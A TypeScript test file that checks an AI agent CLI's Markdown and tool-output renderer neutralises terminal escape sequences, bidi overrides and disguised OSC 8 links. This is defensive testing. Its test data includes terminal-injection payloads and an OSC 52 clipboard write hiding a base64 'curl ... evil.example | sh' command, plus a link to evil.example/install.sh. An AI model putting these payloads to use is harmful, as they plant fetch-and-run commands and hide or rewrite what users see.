import { describe, expect, it } from "@effect/vitest"
import { getCapabilities, setCapabilities } from "@mariozechner/pi-tui"
import { makeLiveView } from "../../src/cli/live-view.js"
import { terminalString } from "../../src/cli/terminal-text.js"
import { renderMarkdown } from "../../src/cli/view/markdown.js"
import { makeMarkdownStream } from "../../src/cli/view/markdown-stream.js"
import { progressLine } from "../../src/cli/view/progress.js"
import { toolBlock } from "../../src/cli/view/tool-line.js"
import type { AgentEvent } from "../../src/domain/events.js"

/**
 * Class 9 of issue 30 on the terminal view (issue 32): `run` on a terminal renders the model's
 * answer as Markdown through pi-tui, which writes what it is given as it is, and on some
 * terminals writes a link as an OSC 8 hyperlink whose target the text hides. Whatever the model
 * puts in any Markdown construct, the only escapes that reach the terminal are the theme's
 * styles (none with colour off), and a link's target is written out.
 */

/** What a terminal would obey or hide: C0 but newline and tab, DEL, C1, bidi and other invisible format characters. */
const forbidden = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u206f\ufeff]|[\u{e0000}-\u{e007f}]/u
/** A style the view's theme and highlighter write (bold, dim, italic, underline, strike, their ends, colours, reset). */
const style = "(?:0|1|2|3|4|9|22|23|24|29|3[1-9])"
/** Those styles, one or several in a sequence (pi-tui opens a wrapped line's styles again in one). */
const themeStyling = new RegExp(`\x1b\\[${style}(?:;${style})*m`, "g")

const clean = (shown: string, color: boolean) => {
  const bare = color ? shown.replace(themeStyling, "") : shown
  const bad = forbidden.exec(bare)
  expect(bad === null ? "" : `raw U+${(bad[0].codePointAt(0) ?? 0).toString(16)} near ${JSON.stringify(bare.slice(Math.max(0, bad.index - 40), bad.index + 40))}`).toBe("")
}

const OSC52 = "\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07"
/** Content's own styles: conceal (hides what follows), red, and a screen clear. */
const hostile = `\x1b[8mhidden\x1b[0m \x1b[31mred\x1b[39m \x1b[2J\r\x9b1A\b\u202eok\u202c\u200b${OSC52}\u{e0041}`

/** The same hostile text in every place Markdown has. */
const answer = [
  `# Title ${hostile}`,
  "",
  `Paragraph ${hostile} **bold ${hostile}** _it ${hostile}_ \`code ${hostile}\` [link ${hostile}](https://example.com/${hostile}) <https://a.example/${hostile}> ![img ${hostile}](x.png) <b>${hostile}</b> &#27;[2J &#x9b; &#8238;`,
  "",
  `- item ${hostile}`,
  `  - nested ${hostile}`,
  "",
  `> quote ${hostile}`,
  "",
  `| head ${hostile} | b |`,
  "|---|---|",
  `| cell ${hostile} | 2 |`,
  "",
  "```ts",
  `const s = "${hostile}" // ${hostile} &#27;[2J`,
  "```",
  "",
  "```",
  `plain ${hostile}`,
  "```",
  "",
  `<div>${hostile}</div>`
].join("\n")

describe("the Markdown path shows what the model sends, never obeys it", () => {
  for (const color of [false, true]) {
    it(`every construct, rendered at 40/80/120 columns (colour ${color ? "on" : "off"}): only the theme's styles, the content's escapes shown as ^[`, () => {
      for (const width of [40, 80, 120]) {
        const shown = renderMarkdown(answer, width, color)
          .map((line) => line.text)
          .join("\n")
        clean(shown, color)
        if (!color) expect(shown).not.toContain("\x1b")
        // Its own styles are shown as text, not applied (a conceal would hide the word after it).
        expect(shown).toContain("^[[8mhidden")
        expect(shown).toContain("<U+202E>ok<U+202C>")
      }
    })
  }

  it("an entity for a control stays the characters it was written with (nothing decodes it into an escape)", () => {
    const shown = renderMarkdown("a &#27;[2J b\n\n```ts\nx = '&#27;[2J'\n```", 80, true)
      .map((line) => line.text)
      .join("\n")
    clean(shown, true)
    expect(shown).toContain("&#27;[2J")
  })

  it("streamed in pieces that split an escape sequence and a surrogate pair, the same holds", () => {
    for (const color of [false, true]) {
      const stream = makeMarkdownStream({ color, width: () => 60 })
      const printed: Array<string> = []
      for (let at = 0; at < answer.length; at += 3) printed.push(...stream.push(answer.slice(at, at + 3)).map((line) => line.text))
      printed.push(...stream.flush().map((line) => line.text))
      clean(printed.join("\n"), color)
    }
  })

  it("a link is never an OSC 8 hyperlink hiding its target, even on a terminal pi-tui knows takes them", () => {
    const before = getCapabilities()
    setCapabilities({ ...before, hyperlinks: true })
    try {
      const shown = renderMarkdown("run [the tests](https://evil.example/install.sh)", 80, true)
        .map((line) => line.text)
        .join("\n")
      clean(shown, true)
      expect(shown.replace(themeStyling, "")).toContain("the tests (https://evil.example/install.sh)")
    } finally {
      setCapabilities(before)
    }
  })

  it("a tool line, its detail and the spinner show a path, a command, a diff and output visibly", () => {
    for (const color of [false, true]) {
      const block = toolBlock(
        {
          name: "shell",
          input: { command: `npm test${hostile}` },
          outcome: "error",
          durationMs: 3,
          output: `out ${hostile}\nline 2 ${hostile}`,
          data: { _tag: "shell", command: `npm test${hostile}`, exitCode: 1, timedOut: false, truncated: false }
        },
        { width: 80, color, maxLines: 20 }
      )
      clean(block.text, color)
      expect(block.text).toContain("npm test^[[8m")
      clean(progressLine(`read_file ${hostile}`, 1000, 1, { width: 80, color }).text, color)
    }
  })

  it("run's whole view of a turn (the answer in pieces, a tool call, the closing lines)", () => {
    const event = (type: AgentEvent["type"], payload: unknown, sequence: number): AgentEvent =>
      ({ type, schemaVersion: 1, id: `evt_${sequence}`, sessionId: "ses_1", turnId: "turn_1", sequence, timestamp: "2026-12-01T10:00:00.000Z", payload }) as AgentEvent
    const pieces = answer.match(/[\s\S]{1,5}/g) ?? []
    const events = [
      event("turn.started", {}, 1),
      ...pieces.map((text, i) => event("model.delta", { text }, 2 + i)),
      event("model.tool_call_requested", { toolCallId: "c", name: "read_file", input: { path: `a${hostile}.md` } }, 1000),
      event("tool.completed", { toolCallId: "c", output: hostile, isError: true, durationMs: 1 }, 1001),
      event("turn.completed", { stopReason: "final" }, 1002)
    ]
    for (const color of [false, true]) {
      const view = makeLiveView({ color: { out: color, err: color }, columns: () => 70 })
      const shown = events.flatMap((e) => view.render(e)).map((segment) => terminalString(segment.text)).join("") + view.closing("ses_1", { requests: 0, tokens: 0, costUsd: 0, unpriced: 0 }).text
      clean(shown, color)
    }
  })
})
